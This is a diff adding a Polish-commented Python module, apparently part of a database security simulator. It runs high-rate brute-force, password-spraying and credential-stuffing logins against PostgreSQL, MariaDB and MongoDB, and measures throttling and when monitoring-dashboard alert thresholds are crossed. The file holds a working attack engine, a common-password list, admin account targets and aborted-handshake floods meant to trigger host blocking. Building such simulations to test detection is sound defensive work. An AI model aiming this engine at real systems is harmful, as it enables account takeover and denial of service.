@@ -0,0 +1,372 @@
+"""
+Masowe ataki na uwierzytelnianie: brute force, password spraying i credential stuffing
+Tysiące prób logowania na sekundę z harmonogramu open-loop z limitem równoległości,
+z pomiarem czasu odpowiedzi serwera i klasyfikacją odmów (błędne hasło, blokada hosta
+po max_connect_errors, limit połączeń, przekroczony czas)
+"""
+
+import asyncio
+import itertools
+import json
+import random
+import time
+
+from async_engine import open_connection, close_connection
+from config import DB_CONFIG
+from latency import LatencyRecorder
+from logformats import ATTACK_USERS
+from metrics import METRICS
+from scheduler import RateProfile, arrivals
+
+AUTH_MODES = ('brute', 'spray', 'stuffing')
+# Wyniki prób w kolejności wydruku
+OUTCOMES = ('success', 'auth_failed', 'host_blocked', 'too_many_connections', 'aborted',
+            'timeout', 'refused', 'error')
+OUTCOME_LABELS = {
+    'success': 'udane logowanie',
+    'auth_failed': 'błędne poświadczenia',
+    'host_blocked': 'host zablokowany',
+    'too_many_connections': 'limit połączeń',
+    'aborted': 'przerwany handshake',
+    'timeout': 'przekroczony czas',
+    'refused': 'odmowa połączenia',
+    'error': 'inny błąd',
+}
+# Odmowy po stronie serwera - ich pierwsze wystąpienie to moment dławienia ataku
+THROTTLE_OUTCOMES = ('host_blocked', 'too_many_connections', 'timeout', 'refused')
+
+# Konta atakowane przez pętle brute force w simulate_activity.py
+BRUTE_TARGETS = {'postgres': ['dba'], 'mariadb': ['root'], 'mongodb': ['admin']}
+COMMON_PASSWORDS = (
+    'admin123', 'Admin123', 'dba123', 'password', 'DBA123', '123456', 'password1', 'qwerty',
+    '12345678', 'letmein', 'welcome', 'root', 'toor', 'admin', 'changeme', 'P@ssw0rd',
+    'Passw0rd!', 'secret', 'master', 'mongodb', 'mysql', 'postgres', 'Summer2024!', 'Haslo123!',
+)
+# Próg paneli "Wielokrotne nieudane próby" w dashboardzie uwierzytelnienia: >= 5 na minutę
+DASHBOARD_THRESHOLD = 5
+
+# Kody błędów sterowników -> wynik próby
+PG_STATES = {
+    '28P01': 'auth_failed', '28000': 'auth_failed',
+    '53300': 'too_many_connections', '57P03': 'too_many_connections',
+}
+MARIADB_CODES = {
+    1045: 'auth_failed', 1129: 'host_blocked', 1040: 'too_many_connections', 1203: 'too_many_connections',
+    2003: 'refused', 2013: 'timeout',
+}
+MONGO_AUTH_FAILED = 18
+
+
+def classify_error(backend, error):
+    """Wynik próby z wyjątku sterownika"""
+    if isinstance(error, asyncio.TimeoutError):
+        return 'timeout'
+    if isinstance(error, ConnectionRefusedError):
+        return 'refused'
+    if backend == 'postgres':
+        return PG_STATES.get(getattr(error, 'sqlstate', None), 'error')
+    if backend == 'mariadb':
+        code = error.args[0] if error.args else None
+        return MARIADB_CODES.get(code, 'error')
+    if getattr(error, 'code', None) == MONGO_AUTH_FAILED:
+        return 'auth_failed'
+    if type(error).__name__ in ('ServerSelectionTimeoutError', 'NetworkTimeout'):
+        return 'timeout'
+    return 'error'
+
+
+def read_dictionary(path):
+    """Plik słownika: jedna pozycja na linię, puste linie i komentarze '#' są pomijane"""
+    with open(path, encoding='utf-8', errors='replace') as f:
+        return [line.rstrip('\r\n') for line in f if line.strip() and not line.startswith('#')]
+
+
+def credentials(backend, mode, usernames=None, passwords=None, pairs=None, rng=None):
+    """Nieskończony strumień par (użytkownik, hasło) dla danego trybu ataku
+
+    brute    - każdy użytkownik po kolei przez cały słownik haseł
+    spray    - każde hasło po kolei na wszystkich kontach bazy z DB_CONFIG (omija blokady kont)
+    stuffing - pary użytkownik:hasło z wycieku (domyślnie losowe pary z list ataków)
+    """
+    passwords = list(passwords or COMMON_PASSWORDS)
+    if mode == 'spray':
+        users = list(usernames or DB_CONFIG[backend]['users'])
+        sequence = [(user, password) for password in passwords for user in users]
+    elif mode == 'stuffing':
+        if not pairs:
+            rng = rng or random.Random()
+            pairs = [(rng.choice(ATTACK_USERS + tuple(DB_CONFIG[backend]['users'])), rng.choice(passwords))
+                     for _ in range(1000)]
+        sequence = list(pairs)
+    else:
+        users = list(usernames or BRUTE_TARGETS[backend])
+        sequence = [(user, password) for user in users for password in passwords]
+    return itertools.cycle(sequence)
+
+
+async def attempt_login(backend, username, password, timeout):
+    """Jedno pełne uwierzytelnienie nowym połączeniem; zwraca wynik próby"""
+    if backend == 'mongodb':
+        from motor.motor_asyncio import AsyncIOMotorClient
+
+        # Nowy klient na próbę - pula motora uwierzytelniłaby się raz i ponownie używała połączeń
+        cfg = DB_CONFIG[backend]
+        client = AsyncIOMotorClient(
+            host=cfg['host'], port=cfg['port'], username=username, password=password, authSource='admin',
+            directConnection=True, serverSelectionTimeoutMS=int(timeout * 1000), maxPoolSize=1)
+        try:
+            await client.admin.command('ping')
+            return 'success'
+        except Exception as e:
+            return classify_error(backend, e)
+        finally:
+            client.close()
+    try:
+        conn = await asyncio.wait_for(open_connection(backend, username, password), timeout)
+    except Exception as e:
+        return classify_error(backend, e)
+    await close_connection(backend, conn)
+    return 'success'
+
+
+async def abort_handshake(backend, timeout):
+    """Połączenie TCP zamknięte przed uwierzytelnieniem - jak skaner portów lub zerwana próba
+
+    MariaDB liczy takie przerwane handshake'i na host i po max_connect_errors kolejnych
+    (bez udanego logowania pomiędzy) blokuje adres do FLUSH HOSTS; błędne hasło tego
+    licznika nie zwiększa.
+    """
+    cfg = DB_CONFIG[backend]
+    try:
+        reader, writer = await asyncio.wait_for(asyncio.open_connection(cfg['host'], cfg['port']), timeout)
+    except Exception as e:
+        return classify_error(backend, e)
+    try:
+        if backend == 'mariadb':
+            # Pakiet powitalny albo od razu błąd 1129, jeśli host jest już zablokowany
+            greeting = await asyncio.wait_for(reader.read(512), timeout)
+            if len(greeting) > 6 and greeting[4] == 0xff:
+                return MARIADB_CODES.get(int.from_bytes(greeting[5:7], 'little'), 'error')
+    except Exception as e:
+        return classify_error(backend, e)
+    finally:
+        writer.close()
+    return 'aborted'
+
+
+class AuthAttackStats:
+    """Liczniki prób: wyniki wg bazy, oś czasu (sekunda od startu -> wyniki) i stan harmonogramu"""
+
+    def __init__(self, backends):
+        self.outcomes = {backend: {} for backend in backends}
+        self.timeline = {backend: {} for backend in backends}
+        self.streams = {backend: {'scheduled': 0, 'dropped': 0, 'max_lag': 0.0} for backend in backends}
+
+    def record(self, backend, outcome, second):
+        counts = self.outcomes[backend]
+        counts[outcome] = counts.get(outcome, 0) + 1
+        bucket = self.timeline[backend].setdefault(second, {})
+        bucket[outcome] = bucket.get(outcome, 0) + 1
+
+    def as_dict(self):
+        return {'outcomes': self.outcomes, 'timeline': self.timeline, 'streams': self.streams}
+
+    def load(self, data):
+        self.outcomes.update(data['outcomes'])
+        # Sekundy po przejściu przez JSON (tryb klastra) są napisami
+        self.timeline.update({backend: {int(second): counts for second, counts in seconds.items()}
+                              for backend, seconds in data['timeline'].items()})
+        self.streams.update(data['streams'])
+
+
+class AuthAttackEngine:
+    """Generuje próby logowania w zadanym tempie na bazę, z limitem prób w toku
+
+    Harmonogram jest otwarty (jak w trybie rate): próby startują według zegara,
+    a nie po zakończeniu poprzednich, więc wolniejsze odpowiedzi serwera nie obniżają
+    tempa ataku. Próby ponad limit `concurrency` są odrzucane i liczone osobno.
+    abort_ratio kieruje część prób w przerwane handshake'i, które w MariaDB zwiększają
+    licznik max_connect_errors hosta.
+    """
+
+    def __init__(self, simulator, rate=100, concurrency=50, duration=60, backends=None, mode='brute',
+                 usernames=None, passwords=None, pairs=None, timeout=5.0, abort_ratio=0.0,
+                 process='poisson', seed=None, output=None, shard=(0, 1)):
+        self.simulator = simulator
+        self.rate = rate
+        self.concurrency = concurrency
+        self.duration = duration
+        self.backends = list(backends or DB_CONFIG)
+        self.mode = mode
+        self.usernames = usernames
+        self.passwords = passwords
+        self.pairs = pairs
+        self.timeout = timeout
+        self.abort_ratio = abort_ratio
+        self.process = process
+        self.seed = seed
+        self.rng = random.Random(seed if seed is None or shard[1] == 1 else f"{seed}:{shard[0]}")
+        self.output = output
+        self.shard = shard
+        self.stats = AuthAttackStats(self.backends)
+        self.latency = LatencyRecorder()
+        METRICS.register_latency(self.latency)
+        self.in_flight = 0
+        self.tasks = set()
+        # Dokładny początek dławienia w tym procesie: {baza: {wynik: (sekunda, wcześniejsze próby)}}
+        self.first = {backend: {} for backend in self.backends}
+        self.completed = {backend: 0 for backend in self.backends}
+
+    async def attempt(self, backend, username, password, aborted, start):
+        began = time.monotonic()
+        try:
+            if aborted:
+                outcome = await abort_handshake(backend, self.timeout)
+            else:
+                outcome = await attempt_login(backend, username, password, self.timeout)
+        except Exception as e:
+            outcome = classify_error(backend, e)
+        finally:
+            self.in_flight -= 1
+        finished = time.monotonic()
+        self.latency.record(backend, outcome, 'connect', finished - began)
+        self.stats.record(backend, outcome, int(began - start))
+        if outcome in THROTTLE_OUTCOMES and outcome not in self.first[backend]:
+            self.first[backend][outcome] = (round(finished - start, 3), self.completed[backend])
+        self.completed[backend] += 1
+        METRICS.inc('auth_attempts_total', backend=backend, outcome=outcome)
+
+    async def stream(self, backend, start):
+        """Strumień prób jednej bazy - czeka tylko na zegar harmonogramu"""
+        rng = random.Random(self.rng.random())
+        # Procesy --workers przechodzą słownik z przeplotem, bez powtórzeń między sobą
+        index, count = self.shard
+        pairs = itertools.islice(
+            credentials(backend, self.mode, self.usernames, self.passwords, self.pairs,
+                        random.Random(f"{self.seed}:{backend}")),
+            index, None, count)
+        stream = self.stats.streams[backend]
+        for offset in arrivals(self.rate, RateProfile(self.duration), self.process, rng):
+            delay = start + offset - time.monotonic()
+            if delay > 0:
+                await asyncio.sleep(delay)
+            else:
+                stream['max_lag'] = max(stream['max_lag'], -delay)
+            stream['scheduled'] += 1
+            if self.in_flight >= self.concurrency:
+                stream['dropped'] += 1
+                continue
+            username, password = next(pairs)
+            self.in_flight += 1
+            task = asyncio.create_task(self.attempt(backend, username, password,
+                                                    rng.random() < self.abort_ratio, start))
+            self.tasks.add(task)
+            task.add_done_callback(self.tasks.discard)
+
+    async def run(self):
+        start = time.monotonic()
+        await asyncio.gather(*(self.stream(backend, start) for backend in self.backends))
+        if self.tasks:
+            await asyncio.gather(*self.tasks)
+
+    def run_blocking(self):
+        started = time.monotonic()
+        asyncio.run(self.run())
+        return max(time.monotonic() - started, 1e-9)
+
+    def describe(self):
+        return (f"Atak na uwierzytelnianie ({self.mode}, {self.process}): {self.rate} prób/s na bazę, "
+                f"do {self.concurrency} w toku, {self.duration}s, bazy: {', '.join(self.backends)}"
+                + (f", {self.abort_ratio:.0%} przerwanych handshake'ów" if self.abort_ratio else ""))
+
+    def stats_dict(self):
+        return dict(self.stats.as_dict(), latency=self.latency.as_dict())
+
+    def load_stats(self, data):
+        data = dict(data)
+        self.latency.load(data.pop('latency', {}))
+        self.stats.load(data)
+
+    def start(self):
+        self.simulator.print_info(self.describe())
+        self.print_summary(self.run_blocking())
+
+    # ============================================
+    # ANALIZA DŁAWIENIA
+    # ============================================
+
+    def throttling(self, backend):
+        """Moment pierwszej odmowy każdego rodzaju: (sekunda, liczba prób przed nią)
+
+        Po scaleniu wyników z --workers dokładne momenty nie są znane - wtedy
+        z dokładnością do sekundy z osi czasu.
+        """
+        if self.first[backend]:
+            return self.first[backend]
+        seconds = self.stats.timeline[backend]
+        first = {}
+        attempts = 0
+        for second in sorted(seconds):
+            counts = seconds[second]
+            for outcome in THROTTLE_OUTCOMES:
+                if outcome in counts and outcome not in first:
+                    first[outcome] = (second, attempts)
+            attempts += sum(counts.values())
+        return first
+
+    def failed_per_minute(self, backend):
+        """Najwięcej nieudanych logowań w minucie (kubełki jak bin span=1m w dashboardzie)
+        i sekunda, w której licznik minuty osiągnął próg WARNING"""
+        minutes = {}
+        crossed = None
+        for second, counts in sorted(self.stats.timeline[backend].items()):
+            minute = second // 60
+            minutes[minute] = minutes.get(minute, 0) + counts.get('auth_failed', 0)
+            if crossed is None and minutes[minute] >= DASHBOARD_THRESHOLD:
+                crossed = second
+        return max(minutes.values(), default=0), crossed
+
+    def report(self, elapsed):
+        backends = {}
+        for backend in self.backends:
+            outcomes = self.stats.outcomes[backend]
+            peak, crossed = self.failed_per_minute(backend)
+            backends[backend] = {
+                'target_rate': self.rate,
+                'scheduled': self.stats.streams[backend]['scheduled'],
+                'dropped': self.stats.streams[backend]['dropped'],
+                'attempts': sum(outcomes.values()),
+                'attempts_per_second': round(sum(outcomes.values()) / elapsed, 2),
+                'outcomes': outcomes,
+                'throttling': {outcome: {'second': second, 'attempts_before': before}
+                               for outcome, (second, before) in self.throttling(backend).items()},
+                'failed_per_minute_peak': peak,
+                'dashboard_threshold_second': crossed,
+                'timeline': {str(second): counts for second, counts in sorted(self.stats.timeline[backend].items())},
+            }
+        return {'mode': self.mode, 'rate': self.rate, 'concurrency': self.concurrency, 'duration': elapsed,
+                'abort_ratio': self.abort_ratio, 'backends': backends, 'latency': self.latency.rows()}
+
+    def print_summary(self, elapsed):
+        self.simulator.print_header("Podsumowanie ataku na uwierzytelnianie")
+        report = self.report(elapsed)
+        for backend, entry in report['backends'].items():
+            self.simulator.print_info(
+                f"{backend}: cel {self.rate}/s, wysłano {entry['attempts']} ({entry['attempts_per_second']:.1f}/s), "
+                f"odrzucono przez limit równoległości {entry['dropped']}, "
+                f"max opóźnienie harmonogramu {self.stats.streams[backend]['max_lag'] * 1000:.1f} ms")
+            self.simulator.print_detail(", ".join(
+                f"{OUTCOME_LABELS[outcome]}: {entry['outcomes'][outcome]}"
+                for outcome in OUTCOMES if outcome in entry['outcomes']))
+            for outcome, first in entry['throttling'].items():
+                self.simulator.print_detail(
+                    f"{OUTCOME_LABELS[outcome]} od {first['second']}s, po {first['attempts_before']} próbach")
+            if entry['dashboard_threshold_second'] is not None:
+                self.simulator.print_detail(
+                    f"Szczyt {entry['failed_per_minute_peak']} nieudanych logowań/min, próg dashboardu "
+                    f"(>= {DASHBOARD_THRESHOLD}/min) przekroczony po {entry['dashboard_threshold_second']}s")
+        self.latency.print_summary(self.simulator, detailed=True)
+        if self.output:
+            with open(self.output, 'w', encoding='utf-8') as f:
+                json.dump(report, f, indent=2, ensure_ascii=False)
+            self.simulator.print_info(f"Wyniki zapisane w {self.output}")